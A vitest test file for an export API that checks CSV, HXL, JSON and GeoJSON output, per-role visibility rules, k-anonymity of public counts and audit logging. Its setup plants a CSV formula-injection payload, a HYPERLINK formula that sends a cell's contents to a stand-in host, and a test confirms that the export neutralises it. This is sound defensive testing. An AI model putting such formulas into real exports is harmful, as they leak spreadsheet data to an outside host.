import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_ENTITIES, GEO_EXPORTS } from '../../src/contract/exports.ts';
import { EXPORTS } from '../../src/server/api/exports/registry.ts';
import { migrateToLatest, openDb } from '../../src/server/db/index.ts';
import { seedDemo } from '../../src/server/seed/demo.ts';
import { testBackends } from '../support/backends.ts';
import { startApi, type ApiHarness } from '../support/api.ts';

/** Issue 14, "data in and out": exports of every entity, as the policy table lets each reader. */

interface JsonExport {
  entity: string;
  view: string;
  items: Record<string, unknown>[];
}

const csvRows = (body: string) => parse(body.replace(/^\uFEFF/, '')) as string[][];

describe('the export registry', () => {
  it('has one entry per entity the contract names, GeoJSON exactly for the geographic ones', () => {
    expect(EXPORTS.map((e) => e.name)).toEqual([...EXPORT_ENTITIES]);
    expect(EXPORTS.filter((e) => e.feature).map((e) => e.name)).toEqual([...GEO_EXPORTS]);
  });
});

describe.each(testBackends())('exports on $name', (backend) => {
  let h: ApiHarness;
  let admin: string;
  let orgA: string;
  let memberA: string;
  let memberB: string;
  let hidden: string;
  const get = (url: string, cookie?: string) =>
    h.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });

  beforeAll(async () => {
    h = await startApi(backend);
    admin = await h.adminCookie();
    const make = async (body: object) => {
      const r = await h.app.inject({
        method: 'POST',
        url: '/api/organisations',
        headers: { cookie: admin },
        payload: body,
      });
      expect(r.statusCode, r.body).toBe(201);
      return r.json<{ id: string }>().id;
    };
    orgA = await make({
      name: 'Export org A (organisation only)',
      type: 'NGO',
      visibility: 'organisation',
      countries: ['TH'],
      provinces: ['TH-63'],
      kindsOfWork: ['protection'],
      description: '=HYPERLINK("https://example.test/?"&A1,"open")',
    });
    hidden = orgA;
    const orgB = await make({ name: 'Export org B', type: 'NGO', visibility: 'coalition' });
    memberA = await h.userWith('member', orgA);
    memberB = await h.userWith('member', orgB);
  });
  afterAll(async () => h?.close());

  it('every entity in csv, hxl and json agrees on its rows; the HXL row is the second line', async () => {
    for (const name of EXPORT_ENTITIES) {
      const csv = await get(`/api/exports/${name}?format=csv`, admin);
      const hxl = await get(`/api/exports/${name}?format=hxl`, admin);
      const json = await get(`/api/exports/${name}?format=json`, admin);
      for (const r of [csv, hxl, json]) expect(r.statusCode, `${name}: ${r.body}`).toBe(200);
      expect(csv.headers['content-type']).toMatch(/^text\/csv/);
      expect(String(csv.headers['content-disposition'])).toContain(`${name}.csv`);
      const plain = csvRows(csv.body);
      const tagged = csvRows(hxl.body);
      const items = json.json<JsonExport>().items;
      expect(tagged[0]).toEqual(plain[0]);
      expect(
        tagged[1]!.every((t) => /^#[a-z][a-z0-9_]*(\+[a-z0-9_]+)*$/.test(t)),
        tagged[1]!.join(),
      ).toBe(true);
      expect(tagged.slice(2)).toEqual(plain.slice(1));
      expect(plain.length - 1, name).toBe(items.length);
      expect(Object.keys(items[0] ?? {})).toEqual(items.length ? plain[0] : []);
    }
    // The demo has something in each of these.
    for (const name of ['organisations', 'places', 'routes', 'flows', 'events', 'participants']) {
      const items = (await get(`/api/exports/${name}?format=json`, admin)).json<JsonExport>().items;
      expect(items.length, name).toBeGreaterThan(0);
    }
  });

  it('a cell a spreadsheet would run is written as text', async () => {
    const rows = csvRows((await get('/api/exports/organisations?format=csv', admin)).body);
    const col = rows[0]!.indexOf('description');
    const a = rows.find((r) => r[0] === orgA)!;
    expect(a[col]).toBe(`'=HYPERLINK("https://example.test/?"&A1,"open")`);
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('organisations follow the policy table: an organisation-only one reaches its own members and coordinators, never others nor the public', async () => {
    const ids = async (url: string, cookie?: string) =>
      (await get(url, cookie)).json<JsonExport>().items.map((i) => i.id);
    expect(await ids('/api/exports/organisations?format=json', admin)).toContain(hidden);
    expect(await ids('/api/exports/organisations?format=json', memberA)).toContain(hidden);
    expect(await ids('/api/exports/organisations?format=json', memberB)).not.toContain(hidden);
    const pub = (
      await get('/api/exports/organisations?format=json&view=public', admin)
    ).json<JsonExport>();
    expect(pub.view).toBe('public');
    expect(pub.items.map((i) => i.id)).not.toContain(hidden);
    expect(pub.items.every((i) => i.visibility === 'public')).toBe(true);
    const anon = await get('/api/exports/organisations?format=json');
    expect(anon.statusCode).toBe(200);
    expect(
      anon
        .json<JsonExport>()
        .items.map((i) => i.id)
        .sort(),
    ).toEqual(pub.items.map((i) => i.id).sort());
    // Places count what the reader may see: org A's province is counted for its member only.
    const province = async (cookie: string) =>
      Number(
        (await get('/api/exports/places?format=json', cookie))
          .json<JsonExport>()
          .items.find((p) => p.place === 'TH-63')?.organisations ?? 0,
      );
    expect(await province(memberA)).toBe((await province(memberB)) + 1);
  });

  it('routes, events, cards, factors and patterns are never exported to the public; participants only to those who run events', async () => {
    for (const name of [
      'routes',
      'events',
      'participants',
      'cards',
      'factors',
      'patterns',
      'commitments',
    ]) {
      const anon = await get(`/api/exports/${name}?format=csv`);
      expect(anon.statusCode, name).toBe(401);
      const asPublic = await get(`/api/exports/${name}?format=csv&view=public`, admin);
      expect(asPublic.statusCode, name).toBe(403);
      expect(asPublic.json<{ error: string }>().error).toBe('not_public');
      expect(asPublic.json<{ message: string }>().message).toMatch(/No public export/);
    }
    expect((await get('/api/exports/participants?format=csv', memberA)).statusCode).toBe(403);
    expect((await get('/api/exports/cards?format=csv', memberA)).statusCode).toBe(200);
    const coordinator = await h.userWith('coordinator');
    expect((await get('/api/exports/participants?format=csv', coordinator)).statusCode).toBe(200);
  });

  it('commitments follow the policy table, and name only organisations the reader may read', async () => {
    const r = await h.app.inject({
      method: 'POST',
      url: '/api/commitments',
      headers: { cookie: admin },
      payload: {
        title: 'Export commitment',
        ownerOrganisationId: orgA,
        targetDate: '2027-01-31',
        visibility: 'coalition',
      },
    });
    expect(r.statusCode, r.body).toBe(201);
    const id = r.json<{ id: string }>().id;
    const row = async (cookie: string) =>
      (await get('/api/exports/commitments?format=json', cookie))
        .json<JsonExport>()
        .items.find((c) => c.id === id);
    expect((await row(admin))?.owner_organisation).toBe('Export org A (organisation only)');
    expect((await row(memberA))?.owner_organisation).toBe('Export org A (organisation only)');
    // Org A is organisation-only: member B reads the commitment but not who owns it.
    expect(await row(memberB)).toMatchObject({
      title: 'Export commitment',
      owner_organisation: null,
    });
  });

  it('public learnings are public posts only, never naming an organisation', async () => {
    const pub = (await get('/api/exports/learnings?format=json')).json<JsonExport>();
    expect(pub.view).toBe('public');
    for (const l of pub.items) {
      expect(l.visibility).toBe('public');
      expect(l.organisation).toBeNull();
      expect(l.hidden).toBe(false);
    }
    const all = (await get('/api/exports/learnings?format=json', admin)).json<JsonExport>();
    expect(all.items.length).toBeGreaterThanOrEqual(pub.items.length);
  });

  it('public flows withhold counts below k; the coalition view counts every readable route', async () => {
    const k = 11;
    const pub = (await get('/api/exports/flows?format=json&view=public')).json<JsonExport>();
    expect(pub.items.length).toBeGreaterThan(0);
    for (const f of pub.items) {
      expect(f.level).toBe('country');
      if (f.routes !== null) expect(f.routes as number).toBeGreaterThanOrEqual(k);
      else expect(f.routes_max as number).toBeGreaterThanOrEqual(k);
    }
    const routes = (await get('/api/exports/routes?format=json', admin)).json<JsonExport>().items;
    const flows = (await get('/api/exports/flows?format=json', admin)).json<JsonExport>().items;
    expect(flows.reduce((s, f) => s + (f.routes as number), 0)).toBe(routes.length);
  });

  it('GeoJSON: a line per route through its stops, a point per place; none for entities without a geometry', async () => {
    const routes = (await get('/api/exports/routes?format=json', admin)).json<JsonExport>().items;
    const geo = await get('/api/exports/routes?format=geojson', admin);
    expect(geo.headers['content-type']).toMatch(/^application\/geo\+json/);
    const fc = geo.json<{
      type: string;
      features: {
        geometry: { type: string; coordinates: number[][] };
        properties: { id: string; transits: string[] };
      }[];
    }>();
    expect(fc.type).toBe('FeatureCollection');
    expect(fc.features).toHaveLength(routes.length);
    for (const f of fc.features) {
      expect(f.geometry.type).toBe('LineString');
      expect(f.geometry.coordinates).toHaveLength(f.properties.transits.length + 2);
      for (const [lon, lat] of f.geometry.coordinates) {
        expect(Math.abs(lon!)).toBeLessThanOrEqual(180);
        expect(Math.abs(lat!)).toBeLessThanOrEqual(90);
      }
    }
    const places = (await get('/api/exports/places?format=geojson', admin)).json<{
      features: { geometry: { type: string } }[];
    }>();
    expect(places.features.length).toBeGreaterThan(0);
    expect(places.features.every((f) => f.geometry.type === 'Point')).toBe(true);
    const bad = await get('/api/exports/events?format=geojson', admin);
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ error: string }>().error).toBe('format_unavailable');
    expect((await get('/api/exports/events?format=xlsx', admin)).statusCode).toBe(400);
  });

  it('a non-public export is in the audit log', async () => {
    await get('/api/exports/routes?format=csv', admin);
    const rows = await h.store.db
      .selectFrom('audit_log')
      .select(['action', 'resource'])
      .where('action', '=', 'export')
      .execute();
    expect(rows.some((r) => r.resource === 'routes')).toBe(true);
  });
});

describe('`mosaic export`', () => {
  it('writes the HXL CSV by default, refuses a public export of routes with a sentence', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mosaic-export-'));
    try {
      const { db } = openDb({ dataDir: dir });
      await migrateToLatest(db);
      await seedDemo(db, new Date('2026-11-28T09:00:00Z'));
      await db.destroy();
      const run = (...args: string[]) =>
        promisify(execFile)(
          process.execPath,
          ['--import', 'tsx', 'src/cli/main.ts', 'export', ...args],
          {
            cwd: path.resolve(import.meta.dirname, '../..'),
            env: { ...process.env, MOSAIC_DATA: dir, DATABASE_URL: '' },
          },
        );
      const { stdout } = await run('organisations');
      const rows = csvRows(stdout);
      expect(rows[1]![0]).toBe('#org+id');
      expect(rows.length).toBeGreaterThan(3);
      const refused = await run('routes', '--public').then(
        () => null,
        (e: { code: number; stderr: string }) => e,
      );
      expect(refused?.code).toBe(1);
      expect(refused?.stderr).toMatch(/No public export of routes: .*export flows instead/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});
